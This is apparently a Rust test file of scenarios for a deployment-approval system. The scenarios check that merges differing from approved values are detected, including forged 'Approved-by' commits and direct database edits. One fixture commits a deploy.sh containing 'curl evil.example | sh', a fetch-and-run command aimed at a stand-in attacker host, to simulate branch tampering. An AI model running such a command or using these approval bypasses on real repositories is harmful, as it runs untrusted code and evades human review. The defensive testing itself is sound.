//! Merges by somebody who may approve, of something else than what was delivered.

use serde_json::json;

use super::{
    super::{
        Trace::{Entry, Found},
        Way, rows,
    },
    BRANCH, Forge, proposed,
};
use crate::{
    delivery::{ROUTE, VALUES},
    forges::repository::git,
};

pub(super) fn ways() -> Vec<Way> {
    vec![
        Way::new(
            "forge: a merge of other values",
            |stage| {
                let forge = Forge::open(stage, ROUTE);
                forge.link("carl");
                let other = VALUES.replace("gpt-5.1 #", "gpt-5-nano #");
                forge.commit("main", &[("values.yaml", &other)], "Merge pull request #1");
                forge.merged("carl-of-shop")
            },
            Entry("proposal.", "not as proposed"),
        )
        .ends(&[("P-4", "stale")]),
        Way::new(
            "forge: a merge after somebody added a file to the branch",
            |stage| {
                let forge = Forge::open(stage, ROUTE);
                forge.link("carl");
                forge.commit(BRANCH, &[("deploy.sh", "curl evil.example | sh\n")], "A fix");
                forge.merge("carl-of-shop")
            },
            Entry("proposal.overtaken", "not the commit that was delivered"),
        )
        .ends(&[("P-4", "overtaken")]),
        Way::new(
            "forge: a merge of a harmless commit on the branch, the values pushed besides",
            |stage| {
                let forge = Forge::open(stage, ROUTE);
                forge.link("carl");
                let (bare, clone) = (&forge.repository.bare, &forge.repository.clone);
                git(bare, &["branch", "-D", BRANCH]);
                git(clone, &["fetch", "--quiet", "--prune", "origin"]);
                git(clone, &["checkout", "--quiet", "-B", BRANCH, "origin/main"]);
                forge.commit(BRANCH, &[("README", "a typo less\n")], "Fix a typo");
                forge.merge("carl-of-shop")
            },
            Entry("proposal.overtaken", "not the commit that was delivered"),
        )
        .ends(&[("P-4", "overtaken")]),
        Way::new(
            "forge: a merge into another branch, the values pushed besides",
            |stage| {
                let forge = Forge::open(stage, ROUTE);
                forge.link("carl");
                forge.act(|pull| pull.base = "playground".to_owned());
                forge.merge("carl-of-shop")
            },
            Entry("proposal.overtaken", "not the commit that was delivered"),
        )
        .ends(&[("P-4", "overtaken")]),
        Way::new(
            "forge: a merge of somebody's own pull request from a branch of our name",
            |stage| {
                let forge = Forge::with(stage, "");
                forge.link("carl");
                forge.commit(BRANCH, &[("README", "a typo less\n")], "Fix a typo");
                forge.somebody_opens(BRANCH, None);
                stage.propose(ROUTE);
                forge.merge("carl-of-shop")
            },
            Entry("proposal.overtaken", "not the commit that was delivered"),
        )
        .ends(&[("P-4", "overtaken")]),
        Way::new(
            "forge: a merge of a fork's pull request from a branch of our name",
            |stage| {
                let forge = Forge::with(stage, "");
                forge.link("carl");
                forge.commit(BRANCH, &[("README", "a typo less\n")], "Fix a typo");
                forge.somebody_opens(BRANCH, Some("Org/Fork"));
                stage.propose(ROUTE);
                forge.merge("carl-of-shop")
            },
            Entry("proposal.overtaken", "nobody says whose account it was"),
        )
        .ends(&[("P-4", "overtaken")]),
        Way::new(
            "forge: the values pushed to the base branch in Carl's name",
            |stage| {
                let forge = Forge::open(stage, ROUTE);
                forge.link("carl");
                let words = "Merge pull request #1\n\nApproved-by: carl-of-shop";
                forge.commit("main", &[("values.yaml", &proposed())], words);
                forge.deliver() + &forge.deliver()
            },
            Entry("proposal.overtaken", "nobody says whose account it was"),
        )
        .ends(&[("P-4", "overtaken")]),
        Way::new(
            "forge: an approval, and then other values on the base branch",
            |stage| {
                let forge = Forge::open(stage, ROUTE);
                stage.decide("approve", "P-4", "carl").ok();
                let other = VALUES.replace("gpt-5.1 #", "gpt-4.1 #");
                forge.commit("main", &[("values.yaml", &other)], "Somebody was faster");
                forge.deliver() + &stage.run(&["execute"]).all()
            },
            Entry("proposal.", "P-4"),
        )
        .ends(&[("P-4", "stale")])
        .voted_on("P-4"),
        Way::new(
            "forge: a row that says that it is merged",
            |stage| {
                let forge = Forge::open(stage, ROUTE);
                stage.decide("approve", "P-4", "carl").ok();
                stage.write(&["update deliveries set state = 'merged', is_over = 1"]);
                forge.deliver() + &stage.run(&["execute"]).all()
            },
            Entry("proposal.vote_cast", "carl"),
        )
        .ends(&[("P-4", "approved")])
        .voted_on("P-4"),
        Way::new(
            "forge: steps of a delivery written into the log",
            |stage| {
                let forge = Forge::open(stage, ROUTE);
                forge.link("carl");
                forge.commit(BRANCH, &[("README", "a typo less\n")], "Fix a typo");
                let head = forge.repository.head(BRANCH).unwrap();
                let step = json!({ "repository": "shop", "version": 1, "step": "committed",
                    "commit": head });
                rows::written(stage, "delivery.step", "P-4", &step.to_string())
                    + &forge.merge("carl-of-shop")
            },
            Found,
        ),
    ]
}
